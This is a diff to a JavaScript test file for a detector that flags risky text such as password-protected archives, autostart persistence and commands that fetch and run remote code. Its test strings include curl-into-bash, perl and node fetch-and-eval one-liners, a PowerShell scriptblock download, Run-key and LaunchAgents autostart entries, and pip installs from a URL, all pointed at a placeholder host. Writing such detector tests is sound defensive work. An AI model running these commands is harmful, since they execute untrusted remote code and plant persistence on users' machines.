@@ -15,6 +15,7 @@ describe('an archive and its secret', () => {
     '下载 model.zip，解压密码：abcd',
     'El archivo está protegido, contraseña: 4455',
     'Archive key is 9090.',
+    'All is in `studio.zip` (pw 4711).',
   ])('%s', text => expect(patterns(text)).toContain('password-archive'));
 
   test.each([
@@ -43,6 +44,9 @@ describe('commands', () => {
     ['autostart-windows', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v M /d m.exe'],
     ['autostart-mac', 'cp ai.model.plist ~/Library/LaunchAgents/'],
     ['powershell-scriptblock', "& ([scriptblock]::Create((irm 'https://x.invalid/a')))"],
+    ['shell-of-curl', 'A=https://x.invalid/b\nbash -c "$(curl -fsSL ${A})"'],
+    ['shell-of-curl', 'perl -e "$(curl -s https://x.invalid/i.pl)"'],
+    ['script-evals-fetched', 'node -e "fetch(\'https://x.invalid/a\').then(r => r.text()).then(eval)"'],
     ['powershell-hidden', 'powershell -w hid -File a.ps1'],
     ['package-from-address', 'pip install https://x.invalid/ops-1.0-py3-none-any.whl'],
     ['package-from-address', 'pip install git+https://git.x.invalid/ops.git'],
@@ -61,6 +65,15 @@ describe('commands', () => {
     expect(hazard?.aggravated).toBeDefined();
   });
 });
+
+test.each([
+  ['Your antivirus warns of it: just allow it.', ['disable-it']],
+  ['If the firewall blocks the port, ask your administrator.', []],
+  ['The detector flags faces; trust them with care.', []],
+])('%s', (text, expected) => expect(patterns(text)).toEqual(expected));
+
+test('a script with arguments is how numbers of a paper are made', () =>
+  expect(patterns('`python run.py --do_eval` makes the table.')).toEqual([]));
 
 describe('a chat', () => {
   test('that hands out the archive is no community', () =>
